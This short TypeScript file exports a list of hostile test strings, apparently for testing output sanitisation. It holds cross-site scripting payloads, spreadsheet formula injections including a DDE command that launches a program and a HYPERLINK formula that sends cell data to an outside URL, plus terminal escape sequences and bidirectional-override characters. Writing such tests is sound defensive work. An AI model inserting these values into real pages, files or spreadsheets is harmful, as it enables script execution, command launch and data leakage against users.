/** Names that do harm where they are taken for markup, a formula, or what a terminal obeys. */
export const hostileNames = [
  "<script>alert(1)</script>",
  `"><img src=x onerror=alert(1)>`,
  "' onmouseover='alert(1)",
  "</style><script>alert(1)</script>",
  "&lt;b&gt;",
  `=HYPERLINK("http://example.com/?"&A1)`,
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "a\u001b[31mred\u001b]0;title\u0007",
  "line\nbreak",
  "\u202eright to left",
  "\u009b31m",
  'a,b;c"d',
  "x".repeat(300),
] as const;
